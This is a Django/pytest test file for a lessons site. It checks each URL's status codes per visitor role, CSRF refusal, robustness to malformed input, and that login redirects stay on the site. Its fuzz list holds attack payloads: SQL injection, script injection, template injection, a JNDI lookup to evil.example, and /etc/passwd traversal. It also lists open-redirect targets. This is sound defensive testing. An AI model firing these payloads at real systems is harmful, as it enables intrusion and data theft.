"""Every address of the lessons, by everybody, with anything in it: an answer or a 4xx, never a 500."""

from __future__ import annotations

import pytest
from django.core.cache import cache
from django.test import Client
from django.urls import reverse

from lessons import urls
from lessons.models import User
from tests.lessons.factories import PASSWORD, make_instructor, make_member, make_published_lesson

pytestmark = pytest.mark.django_db

VISITORS = ("visitor", "guest", "member", "instructor")
# What a GET answers to each of VISITORS. An address without a line here fails the test below.
ANSWERS = {
    "home": (200, 200, 200, 200),
    "lesson": (200, 200, 200, 200),
    "answer": (405, 405, 405, 405),
    "done": (405, 405, 405, 405),
    "place": (405, 405, 405, 405),
    "preview": (404, 404, 404, 200),
    "figure": (200, 200, 200, 200),
    "me": (200, 200, 200, 200),
    "export": (404, 200, 200, 200),
    "delete": (404, 200, 200, 200),
    "log_in": (200, 200, 302, 302),
    "sign_up": (200, 200, 302, 302),
    "reset_password": (200, 200, 200, 200),
    "change_password": (302, 302, 200, 200),
    "set_password": (302, 302, 302, 302),
    "change_email": (302, 302, 200, 200),
    "reauthenticate": (302, 302, 200, 200),
    "admin_sign_in": (302, 302, 403, 302),
}
POSTS = [
    *("answer", "done", "place", "delete", "log_in", "sign_up", "reset_password", "change_password"),
    *("set_password", "change_email", "reauthenticate", "admin_sign_in"),
]
NAUGHTY = [
    "",
    " ",
    "\x00",
    "a\x00b",
    "\x1b[31m",
    "\ufeff",
    "\u202etest",
    "\ud800".encode("utf-8", "surrogatepass").decode("utf-8", "replace"),
    "ﬃ ǅ ı İ ß",
    "Ω≈ç√∫˜µ≤≥÷",
    "田中さんにあげて下さい",
    "👩‍👩‍👧‍👦 🏳️‍🌈",
    "̡͓̞ͅI̗c͙n̟t̘e̖",
    "' OR 1=1 -- ",
    '"; DROP TABLE lessons_user; --',
    "<script>alert(1)</script>",
    "{{ 7*7 }} {% debug %}",
    "${jndi:ldap://evil.example/x}",
    "../../../../etc/passwd",
    "%00%0a%0d",
    "999999999999999999999999",
    "-1",
    "1e309",
    "NaN",
    "null",
    "[]",
    "x" * 10_000,
]


@pytest.fixture(autouse=True)
def _no_limits_from_other_tests():
    cache.clear()


def address(name: str) -> str:
    if name in {"lesson", "answer", "done", "place", "preview"}:
        lesson = make_published_lesson()
        return reverse(f"lessons:{name}", args=[lesson.course.slug, lesson.slug])
    return reverse(f"lessons:{name}", args=["parallel"] if name == "figure" else [])


def browser_of(who: str, *, checks: bool = False) -> Client:
    client = Client(enforce_csrf_checks=checks)
    if who != "visitor":
        makers = {"guest": User.objects.create_guest, "member": make_member, "instructor": make_instructor}
        client.force_login(makers[who]())
    return client


def test_every_address_has_a_line():
    assert {pattern.name for pattern in urls.urlpatterns} == set(ANSWERS)


@pytest.mark.parametrize("name", ANSWERS)
def test_address_answers_each_visitor_as_it_should(name: str):
    path = address(name)
    found = tuple(browser_of(who).get(path).status_code for who in VISITORS)
    assert found == ANSWERS[name]


@pytest.mark.parametrize("name", POSTS)
@pytest.mark.parametrize("who", VISITORS)
def test_post_without_token_is_refused(name: str, who: str):
    assert browser_of(who, checks=True).post(address(name)).status_code == 403


@pytest.mark.parametrize("name", POSTS)
def test_post_of_anything_is_answered_or_refused(name: str):
    path = address(name)
    names = (
        "anchor",
        "choice",
        "login",
        "email",
        "password",
        "password1",
        "password2",
        "oldpassword",
        "next",
    )
    for who in ("visitor", "guest", "member"):
        browser = browser_of(who)
        for text in NAUGHTY:
            cache.clear()
            response = browser.post(path, dict.fromkeys(names, text))
            assert response.status_code < 500, (who, text)


@pytest.mark.parametrize("text", NAUGHTY)
def test_query_of_anything_is_answered_or_refused(client: Client, text: str):
    for path in ("/", "/figures/parallel/", "/accounts/login/", "/accounts/signup/", "/me/"):
        query = dict.fromkeys(("guess", "set", "skip", "calls", "next", "email", "login"), text)
        assert client.get(path, query).status_code < 500
    assert client.get(f"/figures/{text[:50]}/").status_code in {200, 301, 404}
    assert client.get(f"/courses/{text[:50]}/{text[:50]}/").status_code in {301, 404}


@pytest.mark.parametrize("name", ["action_add", "action_primary", "action_remove", "action_send"])
def test_addresses_of_a_member_take_anything(name: str):
    browser = browser_of("member")
    for text in NAUGHTY:
        cache.clear()
        response = browser.post("/accounts/email/", {name: "1", "email": text})
        assert response.status_code < 500, text


def test_login_next_never_leaves_the_site(client: Client):
    person = make_member()
    for target in ("https://evil.example/", "//evil.example/", "/\\evil.example", "javascript:alert(1)"):
        data = {"login": person.email, "password": PASSWORD, "next": target}
        assert Client().post("/accounts/login/", data)["Location"] == "/"
